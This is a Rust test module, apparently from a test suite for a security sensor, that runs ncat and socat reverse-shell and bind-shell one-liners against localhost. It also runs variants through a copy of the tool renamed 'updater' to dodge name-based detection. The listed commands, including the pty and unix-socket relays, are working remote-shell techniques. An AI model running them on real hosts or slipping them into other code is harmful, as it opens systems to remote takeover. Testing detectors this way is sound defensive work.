//! Tools that start a shell and carry its streams: on pipes, a socketpair, a pty.

use std::net::SocketAddr;

use sensor_tests::{
    lab::{BIND, REVERSE},
    peer::{Listener, V4, V6, call, free_port},
    suite::Case,
};

/// This host calls.
const STARTERS: [(&str, &[&str], &str); 16] = [
    ("ncat_e", &["ncat"], "ncat -e /bin/sh $H $P"),
    ("ncat_e_bash", &["ncat"], "exec ncat $H $P -e '/bin/bash --norc -i'"),
    ("ncat_c", &["ncat"], "exec ncat -c 'exec sh -i 2>&1' $H $P"),
    (
        "ncat_sh_exec",
        &["ncat"],
        "ncat $H $P --sh-exec 'bash --norc; true'; true",
    ),
    ("socat_exec", &["socat"], "socat TCP4:$H:$P EXEC:/bin/sh"),
    (
        "socat_exec_first",
        &["socat"],
        "exec socat EXEC:'bash --norc -i',stderr TCP4:$H:$P",
    ),
    (
        "socat_system",
        &["socat"],
        "socat TCP4:$H:$P SYSTEM:'exec sh -i',stderr; true",
    ),
    (
        "socat_exec_pipes",
        &["socat"],
        "socat TCP4:$H:$P EXEC:/bin/sh,pipes; true",
    ),
    (
        "socat_system_pipes",
        &["socat"],
        "exec socat TCP4:$H:$P SYSTEM:'bash --norc; true',pipes,stderr",
    ),
    (
        "socat_exec_pty",
        &["socat"],
        "exec socat EXEC:'bash -li',pty,stderr,setsid,sigint,sane TCP4:$H:$P",
    ),
    (
        "socat_exec_pty_raw",
        &["socat"],
        "socat TCP4:$H:$P EXEC:sh,pty,raw,echo=0; true",
    ),
    (
        "socat_system_pty",
        &["socat"],
        "exec socat TCP4:$H:$P SYSTEM:'exec bash --norc -i',pty,stderr,setsid,sane,ctty",
    ),
    (
        "socat_system_nofork",
        &["socat"],
        "exec socat TCP4:$H:$P SYSTEM:'exec sh -i',nofork",
    ),
    (
        "socat_exec_setsid",
        &["socat", "setsid"],
        "setsid -f socat TCP4:$H:$P EXEC:/bin/bash,setsid,stderr",
    ),
    // A second socat behind a socket in the file system.
    (
        "socat_behind_a_unix_socket",
        &["socat"],
        "socat UNIX-LISTEN:u TCP4:$H:$P & until [ -S u ]; do :; done; socat EXEC:'sh -i',stderr UNIX-CONNECT:u; wait",
    ),
    (
        "socat_pty_behind_a_unix_socket",
        &["socat"],
        "socat UNIX-LISTEN:u EXEC:'bash --norc -i',pty,stderr,setsid,sane & until [ -S u ]; do :; done
exec socat TCP4:$H:$P UNIX-CONNECT:u",
    ),
];

/// The peer calls.
const INBOUND: [(&str, &[&str], &str); 7] = [
    ("ncat_e", &["ncat"], "exec ncat -l $H $P -e /bin/sh"),
    (
        "ncat_keep_c",
        &["ncat"],
        "exec ncat -lk $H $P -c 'exec bash --norc -i 2>&1'",
    ),
    ("ncat_keep_e", &["ncat"], "exec ncat -l -k -e /bin/bash $H $P"),
    (
        "socat_exec",
        &["socat"],
        "socat TCP-LISTEN:$P,bind=$H,reuseaddr EXEC:/bin/sh,stderr; true",
    ),
    (
        "socat_fork_exec",
        &["socat"],
        "exec socat TCP-LISTEN:$P,bind=$H,reuseaddr,fork EXEC:/bin/sh",
    ),
    (
        "socat_fork_system_pipes",
        &["socat"],
        "exec socat TCP-LISTEN:$P,bind=$H,reuseaddr,fork SYSTEM:'exec sh -i',pipes,stderr",
    ),
    (
        "socat_fork_pty",
        &["socat"],
        "exec socat TCP-LISTEN:$P,bind=$H,reuseaddr,fork EXEC:'bash --norc -i',pty,stderr,setsid,sane",
    ),
];

/// Nothing is called what it is: $X is a copy of the tool.
const RENAMED: [(&str, &[&str], &str, &str); 3] = [
    ("ncat", &["ncat"], "ncat", "exec $X -e /bin/sh $H $P"),
    ("socat", &["socat"], "socat", "exec $X TCP4:$H:$P EXEC:/bin/sh"),
    (
        "socat_pty",
        &["socat"],
        "socat",
        "exec $X TCP4:$H:$P EXEC:'bash --norc',pty,stderr,setsid,sane",
    ),
];

pub fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    for (name, tools, script) in STARTERS {
        cases.push(Case::new(format!("relay_starts::{name}"), tools, move |lab| {
            lab.carried(lab.calls(&Listener::tcp(V4)?, "127.0.0.1", script)?, REVERSE)
        }));
    }
    cases.push(Case::new("relay_starts::socat_ipv6", &["socat"], |lab| {
        let script = "exec socat TCP6:[$H]:$P EXEC:/bin/sh";
        lab.carried(lab.calls(&Listener::tcp(V6)?, "::1", script)?, REVERSE)
    }));
    for (name, tools, script) in INBOUND {
        cases.push(Case::new(format!("relay_serves::{name}"), tools, move |lab| {
            let port = free_port(V4)?;
            lab.bash(script, &[("H", "127.0.0.1"), ("P", &port.to_string())])?;
            lab.carried(call(SocketAddr::new(V4, port))?, BIND)
        }));
    }
    // One server, one caller after another: each is a takeover of its own.
    for (name, tools, script) in INBOUND {
        if !name.contains("fork") && !name.contains("keep") {
            continue;
        }
        cases.push(Case::new(format!("relay_serves_many::{name}"), tools, move |lab| {
            let port = free_port(V4)?;
            lab.bash(script, &[("H", "127.0.0.1"), ("P", &port.to_string())])?;
            for _ in 0..3 {
                lab.carried(call(SocketAddr::new(V4, port))?, BIND)?;
            }
            Ok(())
        }));
    }
    for (name, tools, tool, script) in RENAMED {
        cases.push(Case::new(format!("relay_starts_renamed::{name}"), tools, move |lab| {
            lab.carried(lab.connected(script, &lab.copy(tool, "updater")?)?, REVERSE)
        }));
    }
    cases
}
